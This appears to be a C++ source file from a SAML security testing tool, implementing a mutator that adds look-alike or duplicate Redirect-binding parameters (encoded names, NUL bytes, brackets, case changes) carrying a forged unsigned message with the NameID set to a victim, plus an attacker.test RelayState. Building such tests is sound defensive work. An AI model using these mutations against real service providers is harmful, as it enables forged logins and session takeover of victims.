// SPDX-License-Identifier: Apache-2.0
// redirect.parameter_confused — a Redirect query with a second message parameter that a lenient
// framework folds into the real one (BIND-REDIRECT-PARAM-CONFUSION; Keycloak CVE-2026-117691:
// %53AMLRequest; php-saml 3.10.0 #667): a leading space, a percent-encoded letter, a NUL, a "[]"
// suffix or another case. It goes first and carries a forged unsigned copy (the NameID, if any,
// set to the victim's), so an SP whose verifier and consumer read different parameters ends the
// victim's session. saml-bindings §3.4.4.1 names each parameter once. Param form: leading_space
// (default), encoded_name, nul_in_name, brackets, other_case, or duplicate_message,
// duplicate_relay_state, duplicate_sig_alg, duplicate_signature (the same name twice); victim.
#include "mutators/binding/binding.hpp"
#include "mutators/mutators.hpp"

#include "samlt/core/saml_names.hpp"

#include <algorithm>
#include <cctype>

namespace samlt::idp::mutators {
namespace {

// The raw message value with the NameID (if any) set to `victim`, unsigned, encoded again.
core::Result<std::string> forged_copy(const std::string& raw, const std::string& victim) {
  auto not_applicable = [](const core::Error& e) {
    return core::fail(core::Reason::mutator_not_applicable, "the message does not decode: " + e.detail);
  };
  auto text = core::url_decode(raw);
  if (!text) {
    return not_applicable(text.error());
  }
  auto deflated = core::base64_decode(*text);
  if (!deflated) {
    return not_applicable(deflated.error());
  }
  auto xml = core::inflate_raw(*deflated, 1024 * 1024);
  if (!xml) {
    return not_applicable(xml.error());
  }
  auto doc = core::parse_strict(*xml);
  if (!doc) {
    return not_applicable(doc.error());
  }
  for (xmlNode* name_id : core::descendants_named(doc->root(), core::names::ns_assertion, "NameID")) {
    core::set_text(name_id, victim);
  }
  return core::url_encode(core::base64_encode(core::deflate_raw(core::serialize(*doc))));
}

std::string look_alike(const std::string& form, const std::string& name) {
  if (form == "leading_space") {
    return "%20" + name;
  }
  if (form == "encoded_name") {
    return "%53" + name.substr(1);  // SAMLRequest, SAMLResponse: %53 is 'S'
  }
  if (form == "nul_in_name") {
    return name + "%00";
  }
  if (form == "brackets") {
    return name + "%5B%5D";
  }
  if (form == "other_case") {
    std::string lower = name;
    std::transform(lower.begin(), lower.end(), lower.begin(),
                   [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
    return lower;
  }
  return name;  // duplicate_message
}

}  // namespace

core::Result<void> redirect_parameter_confused(Target& target) {
  auto form = choice_param(target, "form",
                           {"leading_space", "encoded_name", "nul_in_name", "brackets", "other_case",
                            "duplicate_message", "duplicate_relay_state", "duplicate_sig_alg", "duplicate_signature"},
                           "leading_space");
  auto victim = string_param(target, "victim");
  if (!form || !victim) {
    return core::fail(form ? victim.error() : form.error());
  }
  auto& params = *target.form;
  auto message = std::find_if(params.begin(), params.end(), [](const core::FormField& p) {
    return p.first == "SAMLRequest" || p.first == "SAMLResponse";
  });
  if (message == params.end()) {
    return core::fail(core::Reason::mutator_not_applicable, "no SAMLRequest or SAMLResponse parameter");
  }
  if (form->rfind("duplicate_", 0) == 0 && *form != "duplicate_message") {
    const std::string name = *form == "duplicate_relay_state" ? "RelayState"
                             : *form == "duplicate_sig_alg"   ? "SigAlg"
                                                              : "Signature";
    const core::FormField* genuine = form_field(target, name);
    if (genuine == nullptr) {
      return core::fail(core::Reason::mutator_not_applicable, "no " + name + " parameter");
    }
    std::string value = name == "RelayState" ? core::url_encode("https://attacker.test/") : genuine->second;
    params.insert(params.begin(), core::FormField{name, std::move(value)});
    return {};
  }
  auto forged = forged_copy(message->second, victim->value_or("megan.bowen@contoso.example"));
  if (!forged) {
    return core::fail(forged.error());
  }
  params.insert(params.begin(), core::FormField{look_alike(*form, message->first), std::move(*forged)});
  return {};
}

}  // namespace samlt::idp::mutators
